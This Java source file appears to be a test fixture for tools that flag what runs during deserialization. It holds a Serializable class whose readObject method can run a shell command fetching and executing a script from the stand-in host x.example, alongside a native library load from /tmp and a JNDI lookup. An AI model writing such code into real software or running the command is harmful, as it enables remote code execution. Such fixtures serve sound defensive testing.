// javac -g:none --release 8 Runs.java && mv Runs.class runs.class && rm Runs\$*.class: what runs when an object is read, and what does not.
import java.io.ObjectInputStream;
import java.io.Serializable;

class Runs implements Serializable {
    static final Runnable START = () -> System.load("/tmp/x.so");

    Runs() throws Exception {
        new java.net.Socket("localhost", 1).close();
    }

    private void readObject(ObjectInputStream in) throws Exception {
        in.defaultReadObject();
        run(in.available());
    }

    private static void run(int which) throws Exception {
        switch (which) {
            case 1:
                new ProcessBuilder("true").start();
                break;
            case 2:
                Class.forName("java.lang.Object").newInstance();
                break;
            default:
                Runtime.getRuntime().exec(new String[] {"sh", "-c", "curl -s http://x.example/a | sh"});
        }
    }

    void later(String name) throws Exception {
        new javax.naming.InitialContext().lookup(name);
    }
}
